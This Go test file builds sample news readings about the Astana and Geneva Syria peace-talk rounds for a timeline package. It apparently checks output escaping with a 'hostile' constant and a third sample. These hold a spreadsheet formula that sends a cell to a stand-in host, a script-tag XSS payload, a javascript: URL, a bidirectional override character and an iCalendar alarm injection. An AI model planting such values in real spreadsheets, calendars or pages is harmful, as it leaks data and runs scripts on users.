package timeline

import (
	"context"
	"slices"
	"strconv"
	"strings"
	"testing"

	"peacetalks/graph"
	"peacetalks/graph/edtf"
)

// vocabulary labels what the sample articles name, as a lexicon would.
var vocabulary = graph.Vocabulary{Version: "test", Terms: map[graph.ID]graph.Term{
	"process:astana": {Labels: map[string]string{"en": "Astana", "ar": "أستانة", "ru": "Астана", "tr": "Astana", "fa": "آستانه", "fr": "Astana"}},
	"process:geneva": {Labels: map[string]string{"en": "Geneva", "ar": "جنيف", "ru": "Женева"}},
	"party:russia":   {Kind: "state", Labels: map[string]string{"en": "Russia", "ar": "روسيا", "ru": "Россия", "tr": "Rusya", "fa": "روسیه", "fr": "Russie"}},
	"party:iran":     {Kind: "state", Labels: map[string]string{"en": "Iran", "ar": "إيران", "ru": "Иран", "tr": "İran", "fa": "ایران", "fr": "Iran"}},
	"place:nur-sultan": {
		Labels: map[string]string{"en": "Astana", "ar": "أستانة", "ru": "Астана"},
		Names: []graph.DatedLabel{
			{Labels: map[string]string{"en": "Astana", "ar": "أستانة", "ru": "Астана"}, Until: "2019-03-22"},
			{Labels: map[string]string{"en": "Nur-Sultan", "ar": "نور سلطان", "ru": "Нур-Султан"}, Since: "2019-03-23", Until: "2022-09-16"},
			{Labels: map[string]string{"en": "Astana", "ar": "أستانة", "ru": "Астана"}, Since: "2022-09-17"},
		},
	},
	"topic:ceasefire":    {Labels: map[string]string{"en": "ceasefire", "ar": "وقف إطلاق النار"}, Broader: "topic:security"},
	"topic:security":     {Labels: map[string]string{"en": "security"}},
	"topic:constitution": {Labels: map[string]string{"en": "constitution", "ar": "الدستور"}},
}}

// A writer makes a reading of an article, sentence by sentence.
type writer struct {
	reading graph.Reading
	claims  map[graph.ID]*graph.Supported
	text    strings.Builder
	from    int
	to      int
}

func write(published, language, source, url, title string) *writer {
	return &writer{claims: map[graph.ID]*graph.Supported{}, reading: graph.Reading{
		Extractor: "test",
		Article: graph.Article{
			URL: url, Title: title, Source: source, Language: language, Published: edtf.MustParse(published),
		},
	}}
}

// say adds a sentence, which the claims that follow are read from.
func (w *writer) say(sentence string) *writer {
	w.from = w.text.Len()
	w.text.WriteString(sentence)
	w.to = w.text.Len()
	w.text.WriteString("\n\n")
	return w
}

func (w *writer) claim(m graph.Modality, subject graph.ID, p graph.Predicate, o graph.Object, basis ...string) *writer {
	c := graph.Claim{Subject: subject, Predicate: p, Object: o}
	s, ok := w.claims[c.ID()]
	if !ok {
		s = &graph.Supported{Claim: c}
		w.claims[c.ID()] = s
	}
	s.Evidence = append(s.Evidence, graph.Evidence{
		Spans: []graph.Span{{Start: w.from, End: w.to, Quote: w.text.String()[w.from:w.to]}},
		Rule:  "test." + string(p), Modality: m, Basis: strings.Join(basis, "; "), Confidence: 0.9,
		Reported: w.reading.Article.Published,
	})
	return w
}

// finish is the reading.
func (w *writer) finish() graph.Reading {
	r := w.reading
	r.Article.Text = w.text.String()
	r.Article.ID = graph.ArticleID(r.Article)
	for _, s := range w.claims {
		for i := range s.Evidence {
			s.Evidence[i].Article = r.Article.ID
		}
		r.Claims = append(r.Claims, *s)
	}
	slices.SortFunc(r.Claims, func(a, b graph.Supported) int {
		return strings.Compare(string(a.Claim.ID()), string(b.Claim.ID()))
	})
	return r
}

func entity(id graph.ID) graph.Object          { return graph.Object{Entity: id} }
func day(s string) graph.Object                { return graph.Object{Date: edtf.MustParse(s)} }
func words(text, language string) graph.Object { return graph.Object{Text: text, Language: language} }
func number(n int) graph.Object                { return graph.Object{Number: n} }
func statement(name string) graph.ID           { return graph.HashID("statement", name) }
func outcome(name string) graph.ID             { return graph.HashID("outcome", name) }
func process(round graph.ID, n int) graph.ID {
	return graph.MakeID("process", strings.TrimSuffix(round.Name(), "-"+strconv.Itoa(n)))
}
func (w *writer) round(id graph.ID, n int) *writer {
	return w.claim(graph.Happened, id, graph.PredProcess, entity(process(id, n))).
		claim(graph.Happened, id, graph.PredNumber, number(n))
}

// hostile is a name that would do harm where it is not escaped.
const hostile = "=HYPERLINK(\"http://x.example/?\"&A1)<script>alert(1)</script>\u202E, {place}; \\n\r\nBEGIN:VALARM"

// sampleReadings are three articles: one in Arabic on the first day of a
// round, one in English after it, and one that knows little and whose outlet
// and speaker are hostile.
func sampleReadings() []graph.Reading {
	const (
		a14 graph.ID = "round:astana-14"
		g8  graph.ID = "round:geneva-8"
	)
	first := write("2019-12-10", "ar", "صحيفة المثال", "https://example.org/ar/astana-14", "انطلاق أستانة 14").
		say("بدأت في نور سلطان يوم الثلاثاء 10 كانون الأول الجولة الرابعة عشرة من محادثات أستانة.").
		round(a14, 14).
		claim(graph.Ongoing, a14, graph.PredStart, day("2019-12-10"), "day and month in the text; year by the weekday").
		claim(graph.Ongoing, a14, graph.PredVenue, entity("place:nur-sultan")).
		say("وشارك فيها وفدا روسيا وإيران، ويرأس الوفد الروسي ألكسندر لافرنتييف.").
		claim(graph.Ongoing, a14, graph.PredDelegation, entity("delegation:astana-14/russia")).
		claim(graph.Ongoing, a14, graph.PredDelegation, entity("delegation:astana-14/iran")).
		claim(graph.Ongoing, "delegation:astana-14/russia", graph.PredHead, entity("person:alexander-lavrentyev")).
		claim(graph.Ongoing, "person:alexander-lavrentyev", graph.PredName, words("ألكسندر لافرنتييف", "ar")).
		say("واجتمع الوفدان الروسي والإيراني اليوم على هامش الجولة.").
		claim(graph.Happened, a14, graph.PredMeeting, entity("meeting:astana-14/iran+russia")).
		claim(graph.Happened, "meeting:astana-14/iran+russia", graph.PredDate, day("2019-12-10"), "today").
		say("وقال لافرنتييف اليوم إن المحادثات «تتناول وقف إطلاق نار شاملًا».").
		claim(graph.Happened, a14, graph.PredStatement, entity(statement("lavrentyev"))).
		claim(graph.Happened, statement("lavrentyev"), graph.PredSpeaker, entity("person:alexander-lavrentyev")).
		claim(graph.Happened, statement("lavrentyev"), graph.PredText, words("تتناول وقف إطلاق نار شاملًا", "ar")).
		claim(graph.Happened, statement("lavrentyev"), graph.PredManner, words("direct", "")).
		claim(graph.Happened, statement("lavrentyev"), graph.PredTopic, entity("topic:ceasefire")).
		claim(graph.Happened, statement("lavrentyev"), graph.PredDate, day("2019-12-10"), "today").
		say("ويعقد الاجتماع الموسع غدًا الأربعاء ويبحث وقف إطلاق النار.").
		claim(graph.Planned, a14, graph.PredPlenary, entity("meeting:astana-14/plenary")).
		claim(graph.Planned, "meeting:astana-14/plenary", graph.PredDate, day("2019-12-11"), "tomorrow, Wednesday").
		claim(graph.Planned, a14, graph.PredAgenda, entity("agenda:astana-14/ceasefire")).
		claim(graph.Planned, "agenda:astana-14/ceasefire", graph.PredSession, day("2019-12-11"), "tomorrow, Wednesday")

	second := write("2019-12-12", "en", "The Example", "https://example.org/en/astana-14?a=1&b=2", "Astana talks end").
		say("The 14th round of the Astana talks closed on December 11 with a joint statement.").
		round(a14, 14).
		claim(graph.Happened, a14, graph.PredEnd, day("2019-12-11"), "year of the article").
		claim(graph.Happened, a14, graph.PredOutcome, entity(outcome("joint"))).
		claim(graph.Happened, outcome("joint"), graph.PredKind, words("joint-statement", "")).
		say("Alexander Lavrentyev led the Russian team.").
		claim(graph.Happened, "delegation:astana-14/russia", graph.PredHead, entity("person:alexander-lavrentyev")).
		claim(graph.Happened, a14, graph.PredDelegation, entity("delegation:astana-14/russia")).
		claim(graph.Happened, "person:alexander-lavrentyev", graph.PredName, words("Alexander Lavrentyev", "en")).
		say("There was no meeting of Turkey and Iran, a diplomat said.").
		claim(graph.Denied, a14, graph.PredMeeting, entity("meeting:astana-14/iran+turkey"))

	third := write("2017-11-20", "en", hostile, "javascript:alert(1)", "<b>Geneva</b>").
		say("The eighth round of the Geneva talks is to open in November 2017, \u202E=2+3 \"<i>it</i>\" said.").
		round(g8, 8).
		claim(graph.Planned, g8, graph.PredStart, day("2017-11"), "month and year in the text").
		claim(graph.Happened, g8, graph.PredStatement, entity(statement("hostile"))).
		claim(graph.Happened, statement("hostile"), graph.PredSpeaker, entity("party:hostile")).
		claim(graph.Happened, statement("hostile"), graph.PredText, words("-1+1", "en")).
		claim(graph.Happened, "party:hostile", graph.PredName, words(hostile, "en")).
		say("The sides may meet.").
		claim(graph.Planned, g8, graph.PredMeeting, entity("meeting:geneva-8/hostile+russia"))
	return []graph.Reading{first.finish(), second.finish(), third.finish()}
}

// sampleStore is a graph of the sample articles.
func sampleStore(t *testing.T) *graph.Store {
	t.Helper()
	return storeOf(t, sampleReadings()...)
}

func storeOf(t *testing.T, readings ...graph.Reading) *graph.Store {
	t.Helper()
	s, err := graph.Open(t.TempDir(), graph.Options{Vocabulary: vocabulary})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := s.Close(); err != nil {
			t.Error(err)
		}
	})
	if _, err := s.PutAll(context.Background(), readings); err != nil {
		t.Fatal(err)
	}
	return s
}

func collect(t *testing.T, s *graph.Store, f Filter) []Event {
	t.Helper()
	var events []Event
	for e, err := range Events(t.Context(), s, f) {
		if err != nil {
			t.Fatal(err)
		}
		events = append(events, e)
	}
	return events
}
